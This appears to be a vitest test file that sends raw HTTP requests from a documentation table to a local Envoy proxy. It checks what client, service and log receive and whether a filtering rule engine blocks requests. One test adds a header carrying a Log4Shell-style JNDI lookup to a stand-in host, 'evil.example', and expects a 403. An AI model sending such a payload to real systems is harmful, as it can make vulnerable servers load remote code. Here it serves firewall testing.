// docs/requests.md, executed: every request of its table is sent as bytes to a real Envoy, and its statements about Weir, the
// client and the service must be true.

import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Arrival } from '../../demo/stack/arrivals.ts';
import { Front } from '../support/exchange-front.ts';

const page = readFileSync(new URL('../../docs/requests.md', import.meta.url), 'utf8');

interface Row {
  readonly request: string;
  readonly weir: string;
  readonly client: string;
  readonly service: string;
}

/** The rows between the two marks of the page. */
function rowsOf(mark: string): Row[] {
  const table = page.split(`<!-- ${mark} -->`)[1]?.split(`<!-- /${mark} -->`)[0] ?? '';
  return table
    .split('\n')
    .filter((line) => line.startsWith('| `'))
    .map((line) => {
      const [, request = '', weir = '', client = '', service = ''] = line.split(/ ?\| ?/);
      return { request: request.slice(1, -1), weir, client, service };
    });
}

const escapes: Readonly<Record<string, string>> = { r: '\r', n: '\n', t: '\t' };

/** The bytes of a cell of the table, with header lines added after its request line. */
function bytesOf(cell: string, headerLines: string): Buffer {
  const text = cell
    .replace(/(.)\{(\d+)\}/g, (_, character: string, count: string) => character.repeat(Number(count)))
    .replace(/\\(?:x([0-9a-f]{2})|([rnt]))/g, (_, hex: string | undefined, letter: string) =>
      hex === undefined ? (escapes[letter] as string) : String.fromCharCode(Number.parseInt(hex, 16)),
    );
  const withHeaders = text.replace(/^[^\r\n]* HTTP\/[\d.]+\r?\n/, (line) => `${line}${headerLines}`);
  return Buffer.from(withHeaders, 'latin1');
}

/** Sends the bytes and collects what arrives until a final status or the end of the connection. */
function answerOf(port: number, bytes: Uint8Array): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(bytes));
    const statuses: string[] = [];
    socket.setEncoding('latin1');
    socket.on('data', (text: string) => {
      for (const [, status = ''] of text.matchAll(/HTTP\/1\.1 (\d{3}) /g)) statuses.push(status);
      if (Number(statuses.at(-1)) >= 200) socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve(statuses.length === 0 ? 'closed' : statuses.join(', then ')));
  });
}

/** As a cell of the table: the request line, a Host that is not the one that most rows send, the size of a body. */
function describeArrival(arrival: Arrival | undefined): string {
  if (arrival === undefined) return 'nothing';
  const host = arrival.headers.find(([name]) => name.toLowerCase() === 'host')?.[1];
  return [
    `\`${arrival.method} ${arrival.path}\``,
    ...(host === 'app.example' ? [] : [`\`Host: ${host}\``]),
    ...(arrival.bodyBytes === 0 ? [] : [`${arrival.bodyBytes} bytes`]),
  ].join(', ');
}

/** How often each text occurs, in any order. */
function countsOf(texts: readonly string[]): ReadonlyMap<string, number> {
  const counts = new Map<string, number>();
  for (const text of texts) counts.set(text, (counts.get(text) ?? 0) + 1);
  return counts;
}

describe('docs/requests.md', () => {
  const rows = rowsOf('http1');
  let front: Front;
  beforeAll(async () => {
    front = await Front.start({ mode: 'streamed' });
  });
  afterAll(() => front.stop());

  /** Sends all rows at once: Envoy takes a second to close the connection of a request that its parser refuses. */
  const sendAll = (name: string, extraHeader = ''): Promise<string[]> =>
    Promise.all(
      rows.map(({ request }, index) =>
        answerOf(front.envoy.frontPort, bytesOf(request, `x-exchange: ${name}-${index}\r\n${extraHeader}`)),
      ),
    );

  it('states what client, service and log get', async () => {
    expect(rows.length, `${rows.length} rows`).toBeGreaterThan(30);
    const answers = await sendAll('row');
    for (const [index, { request, client, service }] of rows.entries()) {
      const arrival = describeArrival(front.upstream.arrivals.find(`row-${index}`));
      const expected = { client: client.startsWith('closed') ? 'closed' : client, service };
      expect({ client: answers[index], service: arrival }, request).toStrictEqual(expected);
    }
    await front.envoy.logEntry(() => front.envoy.accessLog().length === rows.length);
    // Requests that the parser rejects have no method in the log; requests sent at once are logged in any order.
    const refused = front.envoy.accessLog().filter(({ method, details }) => method === null && details !== null);
    const logged = refused.map(({ status, details }) => `closed: \`${status} ${details}\``);
    const told = rows.map(({ client }) => client).filter((client) => client.startsWith('closed'));
    expect(countsOf(logged)).toStrictEqual(countsOf(told));
  });

  it('states whether rules see the request', async () => {
    const answers = await sendAll('attack', 'X-Version: \x24{jndi:ldap://evil.example/a}\r\n');
    for (const [index, { request, weir, client }] of rows.entries()) {
      const isSeen = weir === 'the request';
      const expected = client.startsWith('closed') ? 'closed' : client;
      expect(isSeen || weir === 'the refusal', `${request}: "${weir}"`).toBeTruthy();
      expect(answers[index]?.split(', then ').at(-1), request).toBe(isSeen ? '403' : expected);
    }
  });
});
